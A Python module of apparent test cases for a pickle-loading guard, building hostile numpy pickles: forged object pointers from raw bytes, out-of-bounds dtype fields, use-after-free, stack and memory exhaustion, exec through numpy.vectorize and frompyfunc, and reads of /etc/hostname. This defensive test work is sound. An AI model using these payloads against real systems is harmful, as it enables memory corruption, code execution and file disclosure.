"""numpy's own callables and states with hostile arguments: names that every pickled array holds."""

from __future__ import annotations

import struct
from functools import partial
from typing import Any

from attacks.assembler import (
    BINGET,
    POP,
    Code,
    build,
    call,
    memoized,
    name,
    pickled,
    value,
)
from attacks.canary import PYTHON
from attacks.case import CRASH, DATA, ERROR, HANG, IMPORTED, LIMIT, LOADED, MEMORY, RAN, REFUSED, Theme

theme = Theme("numpy")

NEEDS: dict[str, Any] = {"needs": ("numpy",)}
ANSWER = (REFUSED, LIMIT, "BuildError")
ADDRESS = struct.pack("<Q", 0x4141_4141_4141)


# --- how honest pickles spell it ----------------------------------------------------------------------------------


def dtype(text: str, state: Any = None) -> Code:
    """Spell a dtype as numpy does, with or without state."""
    code = call("numpy.dtype", text, False, True)
    return code if state is None else build(code, state)


def plain_state(order: str = "<") -> tuple[Any, ...]:
    """Spell the state of a plain dtype."""
    return (3, order, None, None, None, -1, -1, 0)


F8 = dtype("f8", plain_state())
U4 = dtype("u4", plain_state())
OBJECT = dtype("O8", (3, "|", None, None, None, -1, -1, 63))


def record(fields: dict[str, Any], itemsize: int = 8, flags: int = 0) -> Code:
    """Spell a structured dtype; `fields` maps names to (dtype, offset)."""
    return dtype(f"V{max(itemsize, 1)}", (3, "|", None, tuple(fields), fields, itemsize, 1, flags))


def array(shape: Any, kind: Code, content: Any, fortran: bool = False, version: Any = 1) -> Code:
    """Spell an array as numpy does: an empty one, given its state."""
    empty = call("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (0,), b"b")
    return build(empty, (version, shape, kind, fortran, content))


def from_buffer(content: Any, kind: Code, shape: Any) -> Code:
    """Spell an array of protocol 5."""
    return call("numpy._core.numeric._frombuffer", content, kind, shape, "C")


HIDDEN = record({"o": (OBJECT, 0)})
"""A dtype of 8 bytes that holds an object, and flags that deny it: raw bytes become a pointer."""


def _first_field(obj: Any) -> object:
    return repr(obj["o"][0] if getattr(obj, "shape", ()) else obj["o"])


# --- dtype state --------------------------------------------------------------------------------------------------


@theme.case("dtype flags that hide an object field", plain=CRASH, use=_first_field, **NEEDS)
def hidden_object_by_state() -> bytes:
    """An array of a dtype that hides an object field: the attacker's bytes are taken for a pointer to an object."""
    return pickled(array((1,), HIDDEN, ADDRESS))


@theme.case("dtype flags that hide an object field", plain=CRASH, use=_first_field, **NEEDS)
def hidden_object_by_frombuffer() -> bytes:
    """The same through `_frombuffer`."""
    return pickled(from_buffer(ADDRESS, HIDDEN, (1,)))


@theme.case("dtype flags that hide an object field", plain=CRASH, use=_first_field, **NEEDS)
def hidden_object_by_scalar() -> bytes:
    """The same through `scalar`."""
    return pickled(call("numpy._core.multiarray.scalar", HIDDEN, ADDRESS))


@theme.case("dtype flags that hide an object field", plain=CRASH, use=_first_field, **NEEDS)
def hidden_object_by_old_path() -> bytes:
    """The same under numpy 1's module names, which still resolve."""
    empty = call("numpy.core.multiarray._reconstruct", name("numpy.ndarray"), (0,), b"b")
    return pickled(build(empty, (1, (1,), HIDDEN, False, ADDRESS)))


@theme.case(
    "dtype flags that hide an object field", plain=(CRASH, LOADED), use=lambda obj: repr(obj["r"]["o"][0]), **NEEDS
)
def hidden_object_nested() -> bytes:
    """Hides the object field one record deeper."""
    return pickled(array((1,), record({"r": (HIDDEN, 0)}), ADDRESS))


@theme.case(
    "dtype flags that hide an object field", plain=(CRASH, LOADED, ERROR), use=lambda obj: repr(obj.tolist()), **NEEDS
)
def hidden_object_in_subarray() -> bytes:
    """Hides it in a subarray dtype."""
    kind = dtype("V8", (3, "|", (OBJECT, (1,)), None, None, 8, 1, 0))
    return pickled(array((1,), record({"s": (kind, 0)}), ADDRESS))


@theme.case("field outside of its item", plain=CRASH, use=lambda obj: obj["a"][0].item(), **NEEDS)
def field_beyond_item() -> bytes:
    """A field 1 GiB behind its 8-byte item: reading it reads other memory."""
    return pickled(array((1,), record({"a": (F8, 1 << 30)}), bytes(8)))


@theme.case("field outside of its item", plain=(CRASH, LOADED), use=lambda obj: obj["a"][0].item(), **NEEDS)
def field_before_item() -> bytes:
    """A field 1 GiB before its item."""
    return pickled(array((1,), record({"a": (F8, -(1 << 30))}), bytes(8)))


@theme.case("field outside of its item", plain=CRASH, use=lambda obj: obj.__setitem__("a", 1.0), **NEEDS)
def field_beyond_item_written() -> bytes:
    """The same, written to: the program's own assignment corrupts other memory."""
    return pickled(array((1,), record({"a": (F8, 1 << 30)}), bytes(8)))


@theme.case(
    "field outside of its item",
    plain=(CRASH, LOADED),
    use=lambda obj: bytes(obj["s"][0]),
    **NEEDS,
    verdict=(*ANSWER, DATA),
)
def field_larger_than_item() -> bytes:
    """A field of 256 MiB in an item of 8 bytes."""
    wide = dtype("S8", (3, "|", None, None, None, 1 << 28, 1, 0))
    return pickled(array((1,), record({"s": (wide, 0)}), bytes(8)))


@theme.case("fields over one another", plain=(CRASH, LOADED), use=lambda obj: repr(obj["o"][0]), **NEEDS)
def object_overlaps_integer() -> bytes:
    """An object field, declared honestly, over an integer field: writing the integer forges the pointer."""
    kind = record({"o": (OBJECT, 0), "i": (dtype("i8", plain_state()), 0)}, flags=63)
    return pickled(array((1,), kind, [(None, 0x4141_4141)]))


_STATES: dict[str, tuple[str, tuple[Any, ...], tuple[str, ...]]] = {
    "itemsize_huge": ("V8", (3, "|", None, None, None, 2**31 - 1, 1, 0), (LOADED, MEMORY, ERROR)),
    "itemsize_negative": ("V8", (3, "|", None, None, None, -8, 1, 0), (LOADED, ERROR)),
    "itemsize_zero": ("U4", (3, "<", None, None, None, 0, 4, 0), (LOADED, ERROR)),
    "alignment_zero": ("V8", (3, "|", None, None, None, 8, 0, 0), (LOADED, ERROR)),
    "alignment_odd": ("V8", (3, "|", None, None, None, 8, 3, 128), (LOADED, ERROR)),
    "flags_of_object": ("V8", (3, "|", None, None, None, 8, 1, 0x3F), (LOADED, ERROR)),
    "names_without_fields": ("V8", (3, "|", None, ("a",), None, 8, 1, 0), (LOADED, ERROR)),
    "fields_without_names": ("V8", (3, "|", None, None, {"a": (F8, 0)}, 8, 1, 0), (LOADED, ERROR)),
    "names_not_in_fields": ("V8", (3, "|", None, ("b",), {"a": (F8, 0)}, 8, 1, 0), (LOADED, ERROR, CRASH)),
    "names_twice": ("V8", (3, "|", None, ("a", "a"), {"a": (F8, 0)}, 8, 1, 0), (LOADED, ERROR)),
    "names_not_text": ("V8", (3, "|", None, (1,), {1: (F8, 0)}, 8, 1, 0), (LOADED, ERROR, CRASH)),
    "field_is_no_tuple": ("V8", (3, "|", None, ("a",), {"a": F8}, 8, 1, 0), (LOADED, ERROR, CRASH)),
    "field_dtype_is_text": ("V8", (3, "|", None, ("a",), {"a": ("f8", 0)}, 8, 1, 0), (LOADED, ERROR, CRASH)),
    "field_offset_is_text": ("V8", (3, "|", None, ("a",), {"a": (F8, "x")}, 8, 1, 0), (LOADED, ERROR, CRASH)),
    "subarray_larger": ("V8", (3, "|", (F8, (10**9,)), None, None, 8, 1, 0), (LOADED, ERROR, CRASH)),
    "subarray_negative": ("V8", (3, "|", (F8, (-1,)), None, None, 8, 1, 0), (LOADED, ERROR, CRASH)),
    "subarray_of_text": ("V8", (3, "|", ("f8", 1), None, None, 8, 1, 0), (LOADED, ERROR, CRASH)),
    "order_unknown": ("f8", (3, "?", None, None, None, -1, -1, 0), (LOADED, ERROR)),
    "order_of_many": ("f8", (3, "<" * 1000, None, None, None, -1, -1, 0), (LOADED, ERROR)),
    "version_unknown": ("f8", (99, "<", None, None, None, -1, -1, 0), (LOADED, ERROR)),
    "too_short": ("f8", (3,), (LOADED, ERROR)),
    "too_long": ("f8", (3, "<", None, None, None, -1, -1, 0, None, 1, 2, 3), (LOADED, ERROR)),
    "no_tuple": ("f8", {"names": 1}, (LOADED, ERROR)),  # type: ignore[dict-item]
    "metadata_odd": ("V8", (4, "|", None, None, None, 8, 1, 0, {"x": 1}), (LOADED, ERROR)),
    "datetime_unit_odd": ("M8", (4, "<", None, None, None, -1, -1, 0, ({}, (b"zz", 0, 0, 0))), (LOADED, ERROR)),
    "datetime_step_zero": ("M8", (4, "<", None, None, None, -1, -1, 0, ({}, (b"s", 0, 0, 0))), (LOADED, ERROR, CRASH)),
}


def _described(kind: str, state: Any) -> bytes:
    """Hold both the dtype and an array of it, so that a use has something to go wrong with."""
    described = memoized(dtype(kind, state), 0)
    return pickled(value([described, array((1,), BINGET(0), bytes(8))]))


def _print_all(obj: Any) -> object:
    return [repr(part) for part in obj], obj[1].tolist(), obj[1].copy().astype(obj[0])


for _key, (_kind, _state, _plain) in _STATES.items():
    theme.add(
        f"dtype_state_{_key}",
        "dtype state that contradicts itself",
        partial(_described, _kind, _state),
        "Gives a dtype a state that numpy does not verify, and makes an array of it.",
        verdict=(*ANSWER, DATA),  # a guard may as well drop the state: what counts is that the array holds in use
        plain=(*_plain, CRASH, ERROR, MEMORY),
        use=_print_all,
        **NEEDS,
    )


@theme.case("dtype nested without end", plain=(CRASH, HANG, ERROR, LOADED), verdict=ANSWER, use=repr, **NEEDS)
def dtype_in_dtype() -> bytes:
    """A dtype of 50,000 records inside one another: whoever walks it overflows the stack."""
    head, tail = record({"r": (Code(b"\0SPLIT\0"), 0)}).split(b"\0SPLIT\0")
    return pickled(head * 50_000 + F8 + tail * 50_000)


@theme.case(
    "dtype that contains itself", plain=(CRASH, HANG, ERROR, LOADED), use=repr, **NEEDS, verdict=(*ANSWER, DATA)
)
def dtype_contains_itself() -> bytes:
    """A record whose field is the record itself, through the memo."""
    inner = memoized(dtype("V8"), 0)
    state = (3, "|", None, ("r",), {"r": (BINGET(0), 0)}, 8, 1, 0)
    return pickled(array((1,), build(inner, state), bytes(8)))


@theme.case(
    "dtype changed under its array", plain=(CRASH, LOADED, ERROR), use=_first_field, **NEEDS, verdict=(*ANSWER, DATA)
)
def dtype_changed_by_fields_dict() -> bytes:
    """Keeps the dict of fields that went into the state, and changes it after: numpy holds the same dict."""
    fields = memoized(value({"o": (F8, 0)}), 3)
    kind = memoized(dtype("V8", (3, "|", None, ("o",), fields, 8, 1, 0)), 0)
    made = memoized(array((1,), kind, ADDRESS), 1) + POP
    changed = BINGET(3) + value("o") + value((OBJECT, 0)) + Code(b"s") + POP
    return pickled(made + changed + BINGET(1))


# --- dtype from text and objects ----------------------------------------------------------------------------------

_DTYPES: dict[str, tuple[Any, ...]] = {
    "wide_void": ("V2147483647", False, True),
    "wide_text": ("U536870911", False, True),
    "subarray_text": ("(1000000000,)f8", False, True),
    "many_fields": (",".join(["i4"] * 20_000), False, True),
    "nested_text": ("(9,)" * 2_000 + "f8", False, True),
    "from_dict": ({"names": ["o"], "formats": ["O"], "offsets": [1 << 30], "itemsize": 8}, False, True),
    "from_list": ([("a", "f8"), ("b", "O")], False, True),
    "from_pair": (("V8", {"o": ("O", 0)}), False, True),
    "from_class": (name("attacks.victims.Plain"), False, True),
    "with_metadata": ("f8", False, True, {"x": 1}),
    "from_name_of_module": ("numpy.float64", False, True),
    "from_pointer_text": ("P", False, True),
}


def _dtype_call(args: tuple[Any, ...]) -> bytes:
    return pickled(call("numpy.dtype", *args))


_DTYPES_INERT = {"wide_void", "wide_text", "many_fields", "from_pointer_text"}
"""Only a dtype: the memory comes with an array of it."""

for _key, _args in _DTYPES.items():
    theme.add(
        f"dtype_{_key}",
        "numpy.dtype called with other than a short text",
        partial(_dtype_call, _args),
        "Calls numpy.dtype with a text or object that makes a dtype which honest pickles spell by state.",
        verdict=(*ANSWER, DATA) if _key in _DTYPES_INERT else ANSWER,
        plain=(LOADED, ERROR, HANG),
        **NEEDS,
    )


# --- arrays -------------------------------------------------------------------------------------------------------

_ARRAYS: dict[str, tuple[Code, str | tuple[str, ...]]] = {
    "reconstruct_huge": (
        call("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (10**10,), b"b"),
        (MEMORY, LOADED),
    ),
    "reconstruct_objects": (
        call("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (10**8,), b"O"),
        MEMORY,
    ),
    "reconstruct_of_other_class": (
        call("numpy._core.multiarray._reconstruct", name("collections.OrderedDict"), (0,), b"b"),
        ERROR,
    ),
    "reconstruct_many_dimensions": (
        call("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (1,) * 1000, b"b"),
        ERROR,
    ),
    "ndarray_called": (call("numpy.ndarray", (10**9,), "f8"), MEMORY),
    "ndarray_with_strides": (call("numpy.ndarray", (2,), "f8", bytes(16), 0, (1 << 40,)), ERROR),
    "zeros": (call("numpy.zeros", (1 << 37,)), MEMORY),
    "ones": (call("numpy.ones", 10**9), MEMORY),
    "arange": (call("numpy.arange", 10**9), MEMORY),
    "full": (call("numpy.full", 10**9, 1.0), MEMORY),
    "fromiter_of_map": (call("numpy.fromiter", call("builtins.map", name("builtins.exec"), [PYTHON]), "f8"), RAN),
    "fromfunction": (call("numpy.fromfunction", name("builtins.print"), (1,)), (LOADED, ERROR)),
    "apply_along_axis": (call("numpy.apply_along_axis", name("attacks.victims.Runner"), 0, [1.0]), RAN),
    "vectorize": (call(call("numpy.vectorize", name("builtins.exec")), [PYTHON]), RAN),
    "piecewise": (call("numpy.piecewise", [1.0], [True], [name("attacks.victims.Runner")]), RAN),
    "frompyfunc": (call(call("numpy.frompyfunc", name("builtins.exec"), 1, 1), PYTHON), RAN),
    "memmap_written": (call("numpy.memmap", "canary", "u1", "w+", 0, (16,)), RAN),
    "memmap_of_any_file": (call("numpy.memmap", "/etc/hostname", "u1", "r"), (LOADED, ERROR)),
    "memmap_reconstructed": (
        call("numpy._core.multiarray._reconstruct", name("numpy.memmap"), (0,), b"b"),
        (LOADED, ERROR),
    ),
    "fromfile": (call("numpy.fromfile", "/etc/hostname", "u1"), LOADED),
    "fromregex": (call("numpy.fromregex", "/etc/hostname", "(.)", [("a", "S1")]), LOADED),
    "genfromtxt": (call("numpy.genfromtxt", ["1,2"]), LOADED),
    "tofile": (call("builtins.getattr", array((1,), F8, bytes(8)), "tofile"), LOADED),
    "dump": (call(call("builtins.getattr", array((1,), F8, bytes(8)), "dump"), "canary"), RAN),
    "as_strided": (
        call("numpy.lib.stride_tricks.as_strided", array((1,), F8, bytes(8)), (10**6,), (1 << 20,)),
        (CRASH, ERROR, LOADED),
    ),
    "ufunc_reconstruct": (call("numpy._core._ufunc_reconstruct", "attacks.trap", "harmless"), (RAN, ERROR)),
    "old_ufunc_reconstruct": (call("numpy.core._ufunc_reconstruct", "attacks.trap", "harmless"), (RAN, IMPORTED)),
    "ctypeslib": (call("numpy.ctypeslib.load_library", "planted", "."), (ERROR, LOADED)),
    "poly1d": (call("numpy.poly1d", call("builtins.range", 10**7)), (LOADED, MEMORY)),
    "seed_global": (call("numpy.random.seed", 0), LOADED),
    "seterr_global": (call("numpy.seterr", "ignore"), "POLLUTED"),
}


def _given(code: Code) -> bytes:
    return pickled(code)


for _key, (_code, _words) in _ARRAYS.items():
    theme.add(
        f"array_{_key}",
        "function of numpy with arguments that act or explode",
        partial(_given, _code),
        "Calls a function of numpy's own namespace that allocates, calls back, imports or touches files.",
        verdict=(*ANSWER, "MissingGlobalError") if "ufunc" in _key else ANSWER,
        plain=_words,
        use=(lambda obj: obj.sum()) if _key == "as_strided" else None,
        **NEEDS,
    )

_BAD_STATES: dict[str, Code] = {
    "shape_larger_than_bytes": array((10**6,), F8, bytes(8)),
    "shape_smaller_than_bytes": array((1,), F8, bytes(800)),
    "shape_negative": array((-1,), F8, bytes(8)),
    "shape_overflows": array((1 << 32, 1 << 32), F8, bytes(8)),
    "shape_overflows_to_zero": array((1 << 62, 4), F8, b""),
    "shape_is_text": array("ab", F8, bytes(8)),
    "shape_of_floats": array((1.5,), F8, bytes(8)),
    "shape_of_2000_dimensions": array((1,) * 2000, F8, bytes(8)),
    "zero_then_huge": array((0, 1 << 60), F8, b""),
    "objects_from_bytes": array((1,), OBJECT, ADDRESS),
    "objects_too_few": array((3,), OBJECT, [1]),
    "objects_too_many": array((1,), OBJECT, [1, 2, 3]),
    "objects_from_text": array((3,), OBJECT, "abc"),
    "numbers_from_list": array((2,), F8, [1.0, 2.0]),
    "bytes_are_text": array((1,), F8, "\u00ff" * 8),
    "dtype_is_text": array((1,), value("f8"), bytes(8)),
    "dtype_is_none": array((1,), value(None), bytes(8)),
    "version_unknown": array((1,), F8, bytes(8), version=99),
    "state_too_short": build(array((1,), F8, bytes(8)), (1, (1,))),
    "state_is_dict": build(array((1,), F8, bytes(8)), {"shape": (10**9,)}),
    "no_version": build(array((1,), F8, bytes(8)), ((1,), F8, False, bytes(8))),
    "zero_itemsize": array((1 << 40,), dtype("V0", (3, "|", None, None, None, 0, 1, 0)), b""),
    "frombuffer_object": from_buffer(bytes(8), OBJECT, (1,)),
    "frombuffer_too_short": from_buffer(bytes(8), F8, (10**9,)),
    "frombuffer_of_array": from_buffer(array((1,), F8, bytes(8)), OBJECT, (1,)),
    "frombuffer_of_text": from_buffer("abcdefgh", F8, (1,)),
    "frombuffer_negative": from_buffer(bytes(8), F8, (-1,)),
    "scalar_too_short": call("numpy._core.multiarray.scalar", F8, b"123"),
    "scalar_without_bytes": call(
        "numpy._core.multiarray.scalar", dtype("V8", (3, "|", None, None, None, 2**31 - 1, 1, 0))
    ),
    "scalar_wide": call("numpy._core.multiarray.scalar", call("numpy.dtype", "V2147483647", False, True)),
    "scalar_of_object": call("numpy._core.multiarray.scalar", OBJECT, ADDRESS),
    "scalar_of_subarray": call(
        "numpy._core.multiarray.scalar", dtype("V8", (3, "|", (F8, (10**9,)), None, None, 8, 1, 0)), bytes(8)
    ),
}
_MAYBE_DATA = {
    "bytes_are_text",
    "no_version",
    "frombuffer_negative",
    "zero_then_huge",
    "scalar_without_bytes",
    "zero_itemsize",
}

for _key, _code in _BAD_STATES.items():
    theme.add(
        f"state_{_key}",
        "array state that contradicts itself",
        partial(_given, _code),
        "Gives an array a shape, dtype or content that do not belong together.",
        verdict=(*ANSWER, DATA) if _key in _MAYBE_DATA else ANSWER,
        plain=(ERROR, LOADED, CRASH, MEMORY),
        use=lambda obj: (repr(obj), obj.tolist()),
        **NEEDS,
    )


@theme.case(
    "array state for raw memory", plain=(ERROR, CRASH, LOADED), verdict=ANSWER, use=lambda obj: obj.tolist(), **NEEDS
)
def string_dtype_from_bytes() -> bytes:
    """Gives an array of numpy's variable-width strings raw bytes, which are pointers into an arena."""
    kind = call("numpy._core._internal._convert_to_stringdtype_kwargs", True)
    return pickled(array((1,), kind, ADDRESS * 2))


@theme.case("array state for raw memory", plain=(ERROR, LOADED, RAN), verdict=ANSWER, **NEEDS)
def string_dtype_na_object() -> bytes:
    """Gives the string dtype a missing-value object of the attacker's class."""
    return pickled(call("numpy._core._internal._convert_to_stringdtype_kwargs", True, name("attacks.victims.Runner")))


@theme.case(
    "array given state twice",
    plain=(LOADED, CRASH, ERROR),
    verdict=(*ANSWER, DATA),
    use=lambda obj: obj[1].tolist(),
    **NEEDS,
)
def state_given_twice_under_view() -> bytes:
    """Makes an array over another's memory and then gives the other a new state: its memory is freed."""
    base = memoized(array((1000,), F8, bytes(8000)), 0)
    view = memoized(from_buffer(BINGET(0), F8, (1000,)), 1)
    again = build(BINGET(0), (1, (1,), F8, False, bytes(8))) + POP
    return pickled(base + POP + view + POP + again + value([BINGET(0), BINGET(1)]))


@theme.case("array of arrays of arrays", plain=(CRASH, LOADED), verdict=ANSWER, **NEEDS)
def object_arrays_nested() -> bytes:
    """100,000 object arrays inside one another: dropping them overflows the stack."""
    head, tail = array((1,), BINGET(0), [Code(b"\0SPLIT\0")]).split(b"\0SPLIT\0")
    kind = memoized(OBJECT, 0) + POP
    return pickled(kind + head * 100_000 + b"N" + tail * 100_000)


@theme.case("bytes copied many times", plain=MEMORY, verdict=ANSWER, **NEEDS)
def bytes_amplified_by_arrays() -> bytes:
    """Makes 5,000 arrays of the same megabyte from the memo, byte-swapped, so that numpy copies: 1 MB becomes 5 GB."""
    swapped = dtype("f8", plain_state(">"))
    setup = memoized(value(bytes(1 << 20)), 0) + POP + memoized(swapped, 1) + POP
    one = array((1 << 17,), BINGET(1), BINGET(0))
    return pickled(setup + b"(" + one * 5_000 + b"l")


def _bytes_stay(obj: Any) -> bool:
    content, numbers = obj
    numbers[0] = 7
    return bool(content == b"12345678" * 10_000)


@theme.case("bytes shared with an array", plain=LOADED, verdict=(REFUSED, DATA), check=_bytes_stay, **NEEDS)
def bytes_made_mutable() -> bytes:
    """Gives an array bytes that the data holds elsewhere, too: numpy writes into them, and `bytes` change."""
    content = memoized(value(b"12345678" * 10_000), 0)
    return pickled(value([content, array((10_000,), F8, BINGET(0))]))


@theme.case("bytes shared with an array", plain=LOADED, verdict=(REFUSED, DATA), check=_bytes_stay, **NEEDS)
def bytes_made_mutable_by_dup() -> bytes:
    """The same with a copy of the reference by DUP, which leaves no trace in the memo."""
    empty = call("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (0,), b"b")
    content = memoized(value(b"12345678" * 10_000), 0) + POP
    state = b"(" + value(1) + value((10_000,)) + F8 + value(False) + BINGET(0) + b"t"
    return pickled(content + b"(" + BINGET(0) + empty + state + b"b" + b"l")
